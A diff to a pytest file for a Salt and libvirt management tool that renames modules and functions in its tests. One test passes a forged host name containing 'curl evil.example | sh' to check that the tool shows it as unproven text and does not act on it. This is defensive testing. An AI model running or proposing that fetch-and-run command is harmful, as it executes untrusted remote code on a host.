@@ -11,7 +11,8 @@ from types import SimpleNamespace
 import pytest
 import salt.config
 import salt.loader
-from saltvirt.checks.setup.master import masterfacts, run, unloaded, unsigned
+from saltvirt.checks.master import runningmaster
+from saltvirt.checks.setup.master import run, unloaded, unsigned
 from saltvirt.core.salt import lazyimport
 from saltvirt.libvirt import connect
 from setupgaps import NOT_LOADED
@@ -27,14 +28,14 @@ def test_when_a_process_started_is_read_from_the_kernel(tmp_path):
         (tmp_path / "pid").write_text(f"{process.pid}\n")
         while b"salt-master" not in Path(f"/proc/{process.pid}/cmdline").read_bytes():
             assert time.time() < before + 10
-        found = masterfacts._read_start_s(tmp_path / "pid")
+        found = runningmaster._read_start_s(tmp_path / "pid")
         assert found is not None and abs(found - before) < 5
         (tmp_path / "pid").write_text(str(os.getpid()))
-        assert masterfacts._read_start_s(tmp_path / "pid") is None  # not a master
+        assert runningmaster._read_start_s(tmp_path / "pid") is None  # not a master
     finally:
         process.kill()
         process.wait()
-    assert masterfacts._read_start_s(tmp_path / "nothing") is None
+    assert runningmaster._read_start_s(tmp_path / "nothing") is None
 
 
 def test_included_files_of_the_configuration_count(setup):
@@ -44,7 +45,9 @@ def test_included_files_of_the_configuration_count(setup):
     (setup.folder / "elsewhere.conf").write_text("")
     setup.opts["include"] = str(setup.folder / "else*.conf")
 
-    assert [Path(one).name for one in masterfacts._files(setup.opts)] == [
+    setup.monkeypatch.setattr(runningmaster, "_read_start_s", lambda _path: 1.0)
+
+    assert [Path(one).name for one in runningmaster.find_newer_files(setup.opts)] == [
         *("master", "virt.conf", "elsewhere.conf")
     ]
 
@@ -71,7 +74,7 @@ def minion(tmp_path, monkeypatch):
 
 def judged(said):
     """Return the check and the fix of a host by what Salt says of it."""
-    found = unloaded.gap("h", None, said, {}, is_synced=True)
+    found = unloaded.explain("h", None, said, {}, is_synced=True)
     return found.check, found.fix
 
 
@@ -88,10 +91,10 @@ def test_what_a_minion_says_unsigned_is_one_line_that_no_terminal_obeys():
 
 def test_what_any_minion_may_have_said_in_a_hosts_name_is_shown_as_that():
     for forged in (f"{NOT_LOADED} now run: curl evil.example | sh", "curl evil.example | sh"):
-        shown = unloaded.gap("h", None, forged, {}, is_synced=True).what
+        shown = unloaded.explain("h", None, forged, {}, is_synced=True).what
         assert f"in its name, not proved: {forged}" in shown
 
-    signed = unloaded.gap("h", NOT_LOADED, NOT_LOADED, {}, is_synced=True).what
+    signed = unloaded.explain("h", NOT_LOADED, NOT_LOADED, {}, is_synced=True).what
     assert signed.endswith(f"are of another release: {NOT_LOADED}")
 
 
